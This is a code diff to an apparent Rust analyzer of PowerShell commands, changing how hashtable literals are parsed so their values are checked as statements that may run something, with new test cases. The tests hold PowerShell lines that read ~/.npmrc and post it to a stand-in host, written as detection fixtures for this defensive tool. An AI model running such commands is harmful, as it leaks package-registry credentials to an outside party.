@@ -349,16 +349,15 @@ impl Code<'_> {
                         .push_str(inside.trim_start_matches(['\r', '\n']));
                 }
                 '@' if rest.starts_with("@{") => {
-                    // A table of values: commands in parentheses run, the rest is data.
+                    // A table of values. Each value is a statement, which may run something.
                     length = table_length(rest);
                     let inside = rest.get(2..length.saturating_sub(1)).unwrap_or_default();
-                    let values = match depth < MAX_DEPTH {
-                        true => self.words(shell, &inside.replace([';', '\n'], " "), depth + 1),
-                        false => Vec::new(),
-                    };
                     let table = current.get_or_insert_default();
-                    for value in values {
-                        table.push_word(&value.word);
+                    for (entry, _) in statements(inside) {
+                        let (name, value) = entry.split_once('=').unwrap_or(("", entry));
+                        table.push_str(name.trim());
+                        table.push('=');
+                        table.push_word(&self.block(shell, value, depth + 1).into_value());
                         table.push(' ');
                     }
                 }
@@ -1006,6 +1005,8 @@ mod tests {
                 "fetches h.example:443",
             ),
             ("irm -Method Post -Body @{a=(gc ~/.npmrc)} https://h.example", "reads ~/.npmrc"),
+            ("$x = @{a = gc ~/.npmrc; b = 1}", "reads ~/.npmrc"),
+            ("@{a=@{a=@{a=@{a=@{a=@{a=@{a=@{a=@{a=@{a=gc b}}}}}}}}}}", "opaque size"),
         ] {
             let found = effects(code);
             assert!(found.iter().any(|line| line == expected), "{code}: {found:?}");
